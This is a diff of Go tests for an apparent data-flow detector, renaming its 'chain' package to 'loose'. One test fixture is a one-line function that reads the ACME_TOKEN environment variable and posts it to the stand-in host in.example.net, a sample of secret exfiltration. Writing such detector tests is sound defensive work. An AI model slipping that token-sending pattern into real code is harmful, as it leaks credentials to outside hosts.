@@ -1,10 +1,10 @@
-package chain_test
+package loose_test
 
 import (
 	"strings"
 	"testing"
 
-	"github.com/skillctl/skillctl/engine/flow/chain"
+	"github.com/skillctl/skillctl/engine/flow/loose"
 	"github.com/skillctl/skillctl/engine/flow/way"
 	"github.com/skillctl/skillctl/internal/document"
 )
@@ -25,7 +25,7 @@ func TestRest(t *testing.T) {
 			"",
 		},
 	} {
-		found := chain.Rest(way.Text{File: "a", Source: []byte(c.text), Start: document.Position{Line: 1, Column: 1}}, nil, nil).Chains
+		found := loose.Rest(way.Text{File: "a", Source: []byte(c.text), Start: document.Position{Line: 1, Column: 1}}, nil, nil).Chains
 		got := ""
 		if len(found) > 0 {
 			got = found[0].Source.Kind + " " + strings.Join(found[0].Sink.Hosts, " ")
@@ -37,8 +37,8 @@ func TestRest(t *testing.T) {
 }
 
 // A function in one line has statements, too.
-func TestLooseLine(t *testing.T) {
-	found := chain.Loose(way.Text{File: "a.go", Source: []byte("package main\nfunc f(a string) { b := os.Getenv(\"ACME_TOKEN\"); http.Post(\"https://in.example.net\", b) }\n"), Start: document.Position{Line: 1, Column: 1}}, nil).Chains
+func TestLine(t *testing.T) {
+	found := loose.Follow(way.Text{File: "a.go", Source: []byte("package main\nfunc f(a string) { b := os.Getenv(\"ACME_TOKEN\"); http.Post(\"https://in.example.net\", b) }\n"), Start: document.Position{Line: 1, Column: 1}}, nil).Chains
 	if len(found) != 1 || found[0].Source.Name != "ACME_TOKEN" {
 		t.Errorf("got %v", found)
 	}
